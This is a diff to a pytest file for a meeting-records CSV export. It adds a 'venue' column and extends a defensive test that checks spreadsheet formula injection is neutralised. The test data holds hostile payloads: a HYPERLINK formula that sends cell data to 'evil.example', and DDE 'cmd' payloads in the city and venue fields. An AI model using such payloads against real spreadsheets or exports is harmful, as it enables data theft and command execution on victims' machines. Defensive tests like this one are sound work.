@@ -49,6 +49,7 @@ def test_a_meeting_row_has_every_column(client, records):
         "country",
         "country_name",
         "city",
+        "venue",
         "mode",
         "visiting_country",
         "countries_taking_part",
@@ -70,7 +71,12 @@ def test_a_meeting_row_has_every_column(client, records):
         "2024-08-23",
         "22–23 August 2024",
     )
-    assert (row["country"], row["country_name"], row["city"]) == ("TH", "Thailand", "Bangkok")
+    assert (row["country"], row["country_name"], row["city"], row["venue"]) == (
+        "TH",
+        "Thailand",
+        "Bangkok",
+        "TMAC headquarters",
+    )
     assert (row["mode"], row["visiting_country"]) == ("in_person", "")
     assert row["countries_taking_part"] == "AZ; KH; TH"  # held in TH; the organisations' and the trip's
     assert row["delegation"] == "Trip to Southeast Asia"
@@ -135,7 +141,13 @@ def test_bad_parameters_are_handled_as_on_the_timeline(client, records, params):
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_cells_that_look_like_formulas_are_neutralised(client, start):
     formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
-    make_meeting(title=formula, summary=f"{start}1+1", city=f"{start}cmd|' /C calc'!A0", slug="formula")
+    make_meeting(
+        title=formula,
+        summary=f"{start}1+1",
+        city=f"{start}cmd|' /C calc'!A0",
+        venue=f"{start}cmd|' /C calc'!A1",
+        slug="formula",
+    )
     make_organisation(name=f"{start}SUM(A1:A9)", slug="formula-org").meeting_roles.create(
         meeting=Meeting.objects.get(slug="formula"), role="host"
     )
@@ -143,6 +155,7 @@ def test_cells_that_look_like_formulas_are_neutralised(client, start):
     assert row["title"] == f"'{formula}"
     assert row["summary"] == f"'{start}1+1"
     assert row["city"] == f"'{start}cmd|' /C calc'!A0"
+    assert row["venue"] == f"'{start}cmd|' /C calc'!A1"
     assert row["organisations"] == f"'{start}SUM(A1:A9) (host)"
     organisation = read_csv(client.get("/export/organisations.csv"))[0]
     assert organisation["name"] == f"'{start}SUM(A1:A9)"
